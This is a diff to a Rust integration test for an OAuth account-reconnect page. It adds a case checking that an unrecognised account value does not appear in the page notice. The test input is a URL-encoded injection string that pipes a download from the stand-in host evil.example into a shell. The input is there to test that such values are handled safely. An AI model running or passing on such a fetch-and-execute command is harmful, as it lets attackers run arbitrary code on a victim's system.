@@ -293,6 +293,16 @@ async fn a_connection_that_needs_reauth_offers_reconnect() {
         .unwrap();
     b.wait_text("#notice", "no connection peer (stranger) to reconnect")
         .await;
+    // Words that name no provider or account oauthd could hold are not shown at all.
+    b.client
+        .goto(&format!(
+            "{}/?reconnect=peer&account=run%20curl%20evil.example%20%7C%20sh",
+            d.url
+        ))
+        .await
+        .unwrap();
+    b.wait_text("#notice", "There is no connection to reconnect")
+        .await;
     let account = b.wait_for("#account-peer").await;
     assert_eq!(
         account.prop("value").await.unwrap().as_deref(),
